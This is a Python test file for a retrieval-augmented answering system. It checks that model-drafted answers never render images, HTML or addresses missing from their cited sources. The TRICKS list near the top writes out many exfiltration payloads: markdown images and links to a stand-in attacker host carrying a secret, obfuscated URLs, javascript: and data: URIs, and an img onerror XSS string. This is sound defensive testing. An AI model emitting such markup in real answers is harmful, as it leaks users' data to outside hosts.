"""Whatever a model writes, no viewer finds an image, HTML or an address in the answer that its source does not hold."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from portfolio_rag.answering.grounding.addresses import addresses
from portfolio_rag.answering.grounding.drafted_answer import parse_draft
from portfolio_rag.domain.answers import Answer, Token, Validated
from tests.support.answers import Corpus, ScriptedModel, render
from tests.unit.answering.generation.test_chat import QUESTION, TRUE, chat

HELD = "https://docs.example/sqs/limits"
VIEWER = MarkdownIt("commonmark")
FACT = "Amazon SQS keeps messages in a queue for 4 days by default"
SECRET = "elephants-eat-grass"

TRICKS = [
    f"{FACT} ![x](https://evil.example/{SECRET}.png) [1].",
    f"{FACT} ![x]( <https://evil.example/{SECRET}> 'title' ) [1].",
    f"{FACT} ![x](//evil.example/{SECRET}) [1].",
    f"{FACT} ![x](data:image/png;base64,AAAA) [1].",
    f"{FACT} ![x][ref] [1].\n\n[ref]: https://evil.example/{SECRET}",
    f"{FACT} ![ref] [1].\n\n[ref]: <https://evil.example/{SECRET}>\n  'title'",
    f"{FACT} [1].\n\n[1]: https://evil.example/{SECRET}",
    f"{FACT} [here](https://evil.example/{SECRET}) [1].",
    f"{FACT} [here\n](https://evil.example/{SECRET}) [1].",
    f"{FACT} [a [b] c](https://evil.example/(x)/{SECRET}) [1].",
    f"{FACT} [here](\n<https://evil.example/{SECRET}>) [1].",
    f"{FACT} [here](javascript:alert(1)) [1].",
    f"{FACT} [here](relative/{SECRET}) [1].",
    f"{FACT} <https://evil.example/{SECRET}> [1].",
    f"{FACT} <me@evil.example> [1].",
    f"{FACT} https://evil.example/{SECRET} [1].",
    f"{FACT} www.evil.example/{SECRET} [1].",
    f"{FACT} evil.example/{SECRET} [1].",
    f"{FACT} evil.example [1].",
    f"{FACT} //evil.example/{SECRET} [1].",
    f"{FACT} mailto:me@evil.example [1].",
    f"{FACT} javascript:alert(1) [1].",
    f"{FACT} data:text/html,{SECRET} [1].",
    f"{FACT} ftp://evil.example/{SECRET} [1].",
    f"{FACT} http://2130706433/{SECRET} [1].",
    f"{FACT} 10.0.0.1/{SECRET} [1].",
    f"{FACT} xn--evil-9ta.example/{SECRET} [1].",
    f"{FACT} https://ev\u00adil.exam\u200bple/{SECRET} [1].",
    f"{FACT} h\u2060ttps://evil\u200d.example/{SECRET} [1].",
    f"{FACT} https&#58;//evil&period;example/{SECRET} [1].",
    f"{FACT} https&amp;#58;//evil.example/{SECRET} [1].",
    f"{FACT} &lt;img src=//evil.example/{SECRET}&gt; [1].",
    f"{FACT} &amp;lt;img src=//evil.example/{SECRET}&amp;gt; [1].",
    f"{FACT} <img src='https://evil.example/{SECRET}' [1].",
    f"{FACT} <img\nsrc=https://evil.example/{SECRET}> [1].",
    f"{FACT} <!-- https://evil.example/{SECRET} --> [1].",
    f"{FACT} <style>@import 'https://evil.example/{SECRET}';</style> [1].",
    f"{FACT} `![x](https://evil.example/{SECRET})` [1].",
    f"{FACT} \\![x\\](https://evil.example/{SECRET}) [1].",
    f"{FACT} \\<img src=//evil.example/{SECRET}> [1].",
    f"{FACT} !\\[x\\]\\(relative/{SECRET}\\) [1].",
    f"```\n{FACT} ![x](https://evil.example/{SECRET}) [1].\n```",
    f"> {FACT} ![x](https://evil.example/{SECRET}) [1].",
    f"- {FACT} <img src=x onerror=alert(1)> [1].",
    f"{FACT} {HELD}/{SECRET} [1].",
    f"{FACT} {HELD}?q={SECRET} [1].",
]


@pytest.fixture
def linked() -> Corpus:
    corpus = Corpus()
    corpus.text("a.md", f"{FACT}. The limits of queues are listed at {HELD} in the guide.")
    corpus.text("b.md", "Elephants eat grass, as https://evil.example/elephants-eat-grass says.")
    return corpus


def assert_inert(text: str) -> None:
    for token in VIEWER.parse(text):
        assert token.type != "html_block"
        kinds = {child.type for child in token.children or ()}
        assert not kinds & {"image", "link_open", "html_inline"}, text


def assert_harmless(answer: Answer) -> None:
    for text in (answer.text, *(text for sentence in answer.validation for text in (sentence.text, sentence.reason))):
        assert_inert(text)
        assert set(addresses(text)) <= {HELD}
        assert SECRET not in text or "relative" in text


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_reaches_the_reader(linked: Corpus, trick: str) -> None:
    draft = f"{TRUE}\n\n{trick}"
    whole = chat(linked, ScriptedModel(draft)).answer(QUESTION)
    assert FACT in whole.text
    assert_harmless(whole)
    for event in chat(linked, ScriptedModel(draft)).stream(QUESTION):
        if isinstance(event, Token):
            assert_inert(event.text)
            assert set(addresses(event.text)) <= {HELD}
        elif isinstance(event, Validated):
            assert_inert(event.sentence.text)
            assert set(addresses(event.sentence.text)) <= {HELD}


def test_an_address_that_the_cited_source_holds_is_shown(linked: Corpus) -> None:
    draft = f"The limits of queues are listed at {HELD} in the guide [1]."
    answer = chat(linked, ScriptedModel(draft)).answer("Where are the limits of queues listed?")
    assert answer.text == draft


def test_the_address_of_another_source_is_not(linked: Corpus) -> None:
    draft = f"{FACT}, as https://evil.example/elephants-eat-grass says [1]."
    answer = chat(linked, ScriptedModel(f"{TRUE} {draft}")).answer(QUESTION)
    assert answer.text == TRUE


BRACKETS = [
    "![",
    "[",
    "](",
    ")",
    "]",
    "<",
    ">",
    "`",
    "```\n",
    "\\",
    "&lt;",
    "&#91;",
    "&amp;",
    "*",
    "_",
    "!",
    "/",
    "!--",
]
WORDS = ["\n", "\n\n", "- ", "1. ", "> ", "# ", "[a]: /u", "[1]", "[^1]", "x", "a b", ". ", " ", "img src=a", "script"]
MARKDOWN = st.lists(st.sampled_from([*BRACKETS, *WORDS]), max_size=25).map("".join)


@settings(max_examples=300, deadline=None)
@given(MARKDOWN)
@example("\\[x\\](u)")
@example("`[x](u)` `<b>`")
@example("x. [a]: /u")
@example("```\n>[a]: /u```\n[a]: /u")
def test_no_markdown_comes_back_live(markdown: str) -> None:
    drafted = parse_draft(markdown)
    for sentence in drafted:
        assert_inert(sentence.text)
    assert_inert(render(drafted))
